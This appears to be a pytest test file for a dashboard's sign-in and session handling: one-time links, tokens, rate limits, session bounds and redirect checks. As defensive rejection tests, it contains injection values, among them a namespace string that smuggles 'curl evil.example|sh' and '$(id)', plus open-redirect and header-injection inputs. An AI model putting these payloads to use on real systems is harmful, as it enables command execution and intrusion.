"""Signing in: a link that works once, a token, and what is refused."""

from __future__ import annotations

import logging
from datetime import timedelta
from urllib.parse import urlencode

import pytest
from tests.unit.dashboard.conftest import Dashboard, HandClock

from windrow.app.access.management import CODE_PATH, ApiUser
from windrow.client.client import Client
from windrow.core.formats.fastjson import dumps, loads
from windrow.core.rng import Rng
from windrow.dashboard import sessions
from windrow.dashboard.guard import local_path
from windrow.dashboard.sessions import Sessions, SignInCodes, WrongTries
from windrow.kubernetes.handler import Peer
from windrow.kubernetes.requests import JSON, Request
from windrow.kubernetes.resources import NAMESPACE, ROLE_BINDING, SECRET, SERVICE_ACCOUNT


def user(name: str = "ann") -> ApiUser:
    return ApiUser(name, (), None)  # type: ignore[arg-type]


async def test_a_link_signs_its_user_in_once(dashboard: Dashboard):
    code = await dashboard.code("ann", ("system:masters",))
    first, second = dashboard.browser(), dashboard.browser()

    answer = await first.get(f"/sign-in?code={code}", sec_fetch_site="none")
    again = await second.get(f"/sign-in?code={code}", sec_fetch_site="none")

    assert (answer.status, answer.headers["Location"]) == (303, "/")
    assert "HttpOnly; SameSite=Strict" in answer.cookie
    assert b"ann" in (await first.get("/clusters")).body
    assert again.status == 401
    assert b"Ask for another one: windrow dashboard" in again.body
    assert not second.cookies


@pytest.mark.parametrize("revoked", ["account", "Secret"])
async def test_a_session_by_link_ends_with_the_token_that_asked_for_it(dashboard: Dashboard, revoked: str):
    api, path = Client(dashboard.api.local()), "/api/v1/namespaces/team/serviceaccounts/robot/token"
    await api.create(NAMESPACE, {"metadata": {"name": "team"}})
    await api.create(SERVICE_ACCOUNT, {"metadata": {"name": "robot"}}, "team")
    bound = await api.create(SECRET, {"metadata": {"name": "bound"}}, "team")
    view = {"apiGroup": ROLE_BINDING.group, "kind": "ClusterRole", "name": "view"}
    subject = {"kind": "ServiceAccount", "name": "robot", "namespace": "team"}
    binding = {"metadata": {"name": "robot"}, "roleRef": view, "subjects": [subject]}
    await api.create(ROLE_BINDING, binding, "team")
    to = {"apiVersion": "v1", "kind": "Secret", "name": "bound", "uid": bound["metadata"]["uid"]}
    wanted = {
        "kind": "TokenRequest",
        "apiVersion": "authentication.k8s.io/v1",
        "spec": {"boundObjectRef": to},
    }
    token = (await api.call(Request("POST", path, (), dumps(wanted), JSON)))["status"]["token"]
    link = Request(
        "POST", CODE_PATH, (), b'{"namespace": "team"}', JSON, headers=(("Authorization", f"Bearer {token}"),)
    )
    reply = await dashboard.api.send(link, Peer())
    browser = dashboard.browser()
    assert (
        await browser.get(f"/sign-in?code={loads(reply.body)['code']}", sec_fetch_site="none")
    ).status == 303
    assert (await browser.get("/clusters")).status == 200

    await api.delete(
        SERVICE_ACCOUNT.ref("robot", "team") if revoked == "account" else SECRET.ref("bound", "team")
    )

    answer = await browser.get("/clusters")
    assert (answer.status, answer.headers["Location"].partition("?")[0]) == (303, "/sign-in")


async def test_a_link_is_of_no_use_after_a_minute(dashboard: Dashboard):
    code = await dashboard.code()
    dashboard.clock.advance(timedelta(seconds=61))

    assert (await dashboard.browser().get(f"/sign-in?code={code}", sec_fetch_site="none")).status == 401


@pytest.mark.parametrize(
    "headers", [{"sec_fetch_site": "cross-site"}, {"sec_fetch_site": ""}, {"sec_purpose": "prefetch"}]
)
async def test_a_link_that_no_person_has_opened_asks_before_it_signs_in(
    dashboard: Dashboard, headers: dict[str, str]
):
    """A page of another site, or a browser that reads ahead, uses up no code and opens no session."""
    code, browser = await dashboard.code(), dashboard.browser()

    page = await browser.get(f"/sign-in?code={code}", **headers)
    assert (page.status, page.cookie) == (200, "")
    assert b"Sign in with this link" in page.body

    assert (await browser.post("/sign-in", {"code": code})).status == 303


async def test_a_token_of_a_service_account_signs_it_in_until_it_is_revoked(dashboard: Dashboard):
    api = dashboard.api.local()
    await api.create(SERVICE_ACCOUNT, {"metadata": {"name": "robot"}}, "default")
    dashboard.api.tokens["s3cret"] = ("robot", ("system:masters",), None)
    browser = dashboard.browser()

    assert (await browser.post("/sign-in", {"token": " s3cret\n", "next": "/clusters?q=a"})).status == 303
    assert b"robot" in (await browser.get("/clusters")).body

    del dashboard.api.tokens["s3cret"]
    answer = await browser.get("/clusters")
    assert (answer.status, answer.headers["Location"]) == (303, "/sign-in?next=%2Fclusters")
    assert len(dashboard.doors.sessions) == 0


@pytest.mark.parametrize("token", ["", "wrong", "a\r\nb", "a\x00b", "ä", "x" * 20_000])
async def test_what_is_no_token_is_refused(dashboard: Dashboard, token: str):
    browser = dashboard.browser()

    answer = await browser.post("/sign-in", {"token": token})

    assert (answer.status, browser.cookies) == (401, {})


async def test_wrong_tries_from_one_address_are_limited_and_a_link_works_all_the_same(dashboard: Dashboard):
    browser, other = dashboard.browser(), dashboard.browser()
    other.address = "192.0.2.7"
    dashboard.api.tokens["right"] = ("ann", (), None)
    for _ in range(sessions.MAX_WRONG_TRIES):
        await browser.post("/sign-in", {"token": "wrong"})

    refused = await browser.post("/sign-in", {"token": "right"})
    assert refused.status == 429
    assert int(refused.headers["Retry-After"]) > 0
    assert (await other.post("/sign-in", {"token": "right"})).status == 303

    code = await dashboard.code()
    assert (await browser.post("/sign-in", {"code": code})).status == 303

    dashboard.clock.advance(timedelta(minutes=5))
    assert (await browser.post("/sign-in", {"token": "right"})).status == 303


async def test_neither_codes_nor_cookies_nor_tokens_are_logged(
    dashboard: Dashboard, caplog: pytest.LogCaptureFixture
):
    caplog.set_level(logging.DEBUG)
    code, browser = await dashboard.code(), dashboard.browser()
    await browser.get(f"/sign-in?code={code}", sec_fetch_site="none")
    await browser.post("/sign-in", {"token": "not-a-token-of-anybody"})

    secrets = (code, *browser.cookies.values(), "not-a-token-of-anybody")
    assert "signed in to the dashboard" in caplog.text
    assert not [one for one in secrets if one in caplog.text]


async def test_signing_out_ends_the_session_and_takes_the_cookie_back(dashboard: Dashboard):
    browser = await dashboard.signed_in()
    kept = dict(browser.cookies)

    answer = await browser.post("/sign-out", {"csrf": await browser.csrf()})
    assert "Max-Age=0" in answer.cookie

    browser.cookies = kept
    assert (await browser.get("/clusters")).status == 303


async def test_a_code_is_for_who_the_api_has_authenticated_and_for_them_alone(dashboard: Dashboard):
    browser = await dashboard.signed_in("bob", ("team-b",))

    assert (await browser.get("/clusters")).status == 403
    assert b"bob" in (await browser.get("/clusters")).body


@pytest.mark.parametrize(
    ("asked", "led"),
    [
        ("/clusters?q=a", "/clusters?q=a"),
        ("//evil.example", "/"),
        ("https://evil.example", "/"),
        ("/\\evil.example", "/"),
        ("/a\nSet-Cookie: b", "/"),
        ("/" + "a" * 500, "/"),
        ("javascript:alert(1)", "/"),
    ],
)
def test_signing_in_leads_to_no_other_site(asked: str, led: str):
    assert local_path(asked) == led


# --- sessions ---------------------------------------------------------------------------------------------------------


async def test_a_session_ends_after_its_lifetime_however_much_it_is_used():
    clock = HandClock()
    found = Sessions(clock, Rng(1))
    cookie = found.open(user(), "")
    for _ in range(15):
        clock.advance(timedelta(minutes=30))
        assert found.find(cookie)

    clock.advance(timedelta(minutes=30))
    assert found.find(cookie) is None
    assert len(found) == 0


async def test_a_session_ends_when_it_is_not_used():
    clock = HandClock()
    found = Sessions(clock, Rng(1))
    cookie = found.open(user(), "")
    clock.advance(sessions.SESSION_IDLE)

    assert found.find(cookie) is None


async def test_a_wall_clock_that_is_set_ends_no_session():
    clock = HandClock()
    found = Sessions(clock, Rng(1))
    cookie = found.open(user(), "")
    clock.set_wall(timedelta(days=400))

    assert found.find(cookie)


async def test_of_too_many_sessions_the_longest_unused_of_the_user_ends():
    found = Sessions(HandClock(), Rng(1))
    other = found.open(user("bob"), "")
    cookies = [found.open(user(), "") for _ in range(sessions.MAX_SESSIONS_PER_USER)]
    found.find(cookies[0])
    found.open(user(), "")

    assert found.find(other)
    assert found.find(cookies[0])
    assert found.find(cookies[1]) is None


async def test_there_are_never_more_sessions_than_the_bound():
    found = Sessions(HandClock(), Rng(1))
    for number in range(sessions.MAX_SESSIONS + 5):
        found.open(user(f"user-{number}"), "")

    assert len(found) == sessions.MAX_SESSIONS


async def test_one_user_asks_for_many_codes_and_takes_none_of_others():
    codes = SignInCodes(HandClock(), Rng(1))
    others = codes.issue(user("bob"), "")
    mine = [codes.issue(user(), "") for _ in range(sessions.MAX_CODES_PER_USER + 1)]

    assert codes.redeem(mine[0]) is None
    assert codes.redeem(mine[1]) == (user(), "")
    assert codes.redeem(others) == (user("bob"), "")


async def test_codes_of_many_users_are_bounded():
    codes = SignInCodes(HandClock(), Rng(1))
    first = codes.issue(user("first"), "")
    for number in range(sessions.MAX_CODES):
        codes.issue(user(f"user-{number}"), "")

    assert codes.redeem(first) is None


async def test_wrong_tries_of_many_addresses_take_bounded_memory():
    tries = WrongTries(HandClock())
    for number in range(sessions.MAX_ADDRESSES + 10):
        tries.record(f"10.0.{number // 256}.{number % 256}")

    assert len(tries._until) == sessions.MAX_ADDRESSES
    assert "10.0.0.0" not in tries._until


async def test_a_cookie_and_a_code_are_not_shown_where_values_are_printed():
    found = Sessions(HandClock(), Rng(1))
    cookie = found.open(user(), "")
    session = found.find(cookie)

    assert session is not None
    assert cookie not in repr(session)
    assert session.csrf not in repr(session)
    assert cookie not in repr(vars(found))


async def test_a_query_with_a_namespace_is_kept_while_signing_in(dashboard: Dashboard):
    answer = await dashboard.browser().get("/clusters?namespace=team-a")

    assert answer.headers["Location"] == "/sign-in?" + urlencode({"next": "/clusters?namespace=team-a"})


def test_the_bounds_are_those_that_the_guide_names():
    hours = (sessions.SESSION_LIFETIME, sessions.SESSION_IDLE)

    assert hours == (timedelta(hours=8), timedelta(hours=1))
    assert (sessions.MAX_SESSIONS_PER_USER, sessions.MAX_WRONG_TRIES) == (20, 10)
    assert (timedelta(minutes=1), timedelta(seconds=6)) == (sessions.CODE_LIFETIME, sessions.WRONG_TRY_EVERY)


@pytest.mark.parametrize("page", ["/clusters", "/activity", "/credentials"])
@pytest.mark.parametrize("namespace", ["x;curl%20evil.example|sh%20%23", "$(id)", "A", "a/b", "a%0Ab"])
async def test_what_is_no_name_of_a_namespace_is_refused_for_it_would_stand_in_a_command_to_copy(
    dashboard: Dashboard, page: str, namespace: str
):
    answer = await (await dashboard.signed_in()).get(f"{page}?namespace={namespace}")

    assert answer.status == 400
    assert b"curl" not in answer.body
